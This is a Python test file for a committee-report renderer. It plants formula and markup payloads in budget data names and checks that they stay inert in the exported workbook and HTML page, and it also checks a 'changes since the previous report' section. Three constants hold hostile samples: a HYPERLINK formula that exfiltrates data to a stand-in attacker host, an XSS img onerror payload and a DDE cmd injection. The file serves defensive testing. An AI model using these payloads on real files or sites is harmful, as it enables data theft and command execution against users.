"""The committee report of an altered copy of the sample publication: agencies', categories'
and villages' names that carry a formula or markup are inert in the workbook and the page;
an earlier report kept beside it is what the report says changed since."""

import json
import shutil
import zipfile
from pathlib import Path

import duckdb
import pytest
from python_calamine import CalamineWorkbook

from serving.committee_report.browser import chromium_page, open_page
from serving.committee_report.render import render_committee_report
from serving.publication import PublishedPaths
from tests.helpers import report_cell as cell

INJECTED_AGENCY = '=HYPERLINK("http://attacker.invalid/steal?d="&A1,"คลิก")'
INJECTED_CATEGORY = "@SUM(1+1)<img src=x onerror=alert(1)>"
INJECTED_VILLAGE = "+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def altered(sample_publication, sample_run, tmp_path_factory):
    """A copy of the publication whose agency, category and village names carry formulas and
    markup, rendered where an earlier report (the sample's, dated a year before, with a budget
    total 1,000 baht lower) is kept."""
    root = tmp_path_factory.mktemp("altered")
    copy = PublishedPaths(root / "published")
    shutil.copytree(sample_publication.folder, copy.folder)
    with duckdb.connect(str(copy.database)) as connection:
        (agency,) = connection.execute("select min(agency_name) from mart_budget").fetchone()
        connection.execute(
            "update mart_budget set agency_name = ? where agency_name = ?",
            [INJECTED_AGENCY, agency],
        )
        connection.execute(
            "update mart_budget set category = ? where category = "
            "(select min(category) from mart_budget)",
            [INJECTED_CATEGORY],
        )
        (village,) = connection.execute(
            "select min(village_code) from mart_village where reporting_status <> 'complete' "
            "or not has_funded_project or not has_plan"
        ).fetchone()
        connection.execute(
            "update mart_village set village_name_th = ? where village_code = ?",
            [INJECTED_VILLAGE, village],
        )
    reports = root / "reports"
    earlier = reports / "2025-01-01"
    earlier.mkdir(parents=True)
    report = sample_run.report_folder  # the sample's own report, made by the publish job
    figures = json.loads((Path(report) / "figures.json").read_text(encoding="utf-8"))
    figures["figures"]["budget_by_year/total/budget_allocated"]["value"] -= 1000
    (earlier / "figures.json").write_text(json.dumps(figures), encoding="utf-8")
    files = render_committee_report(copy, reports)
    return files, village


def test_formulas_in_names_are_inert_in_the_workbook_and_the_page(altered):
    files, village = altered
    workbook = CalamineWorkbook.from_path(str(files.xlsx))
    cells = {
        value
        for name in workbook.sheet_names
        for row in workbook.get_sheet_by_name(name).to_python()
        for value in row
        if isinstance(value, str)
    }
    for injected in (INJECTED_AGENCY, INJECTED_CATEGORY, INJECTED_VILLAGE):
        assert "'" + injected in cells  # shown as text, with the apostrophe that keeps it so
        assert injected not in cells
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@"))]
    with zipfile.ZipFile(files.xlsx) as archive:
        assert not [
            name
            for name in archive.namelist()
            if name.endswith(".xml") and b"<f>" in archive.read(name)
        ]
    with chromium_page() as page:
        open_page(page, files.html)
        assert cell(page, "budget_by_agency", INJECTED_AGENCY, "agency_name") == INJECTED_AGENCY
        assert cell(page, "budget_by_category", INJECTED_CATEGORY, "category") == INJECTED_CATEGORY
        assert cell(page, "villages_behind", village, "village_name_th") == INJECTED_VILLAGE
        assert page.locator("img, script, a[href^='http']").count() == 0


def test_what_changed_since_the_previous_report(altered):
    files, _ = altered
    assert files.previous == "2025-01-01"
    with chromium_page() as page:
        open_page(page, files.html)
        row = "budget_by_year/total/budget_allocated"
        assert cell(page, "changes", row, "change") == "+1,000.00"
        assert "1 มกราคม 2568" in page.inner_text('[data-section="changes"]')
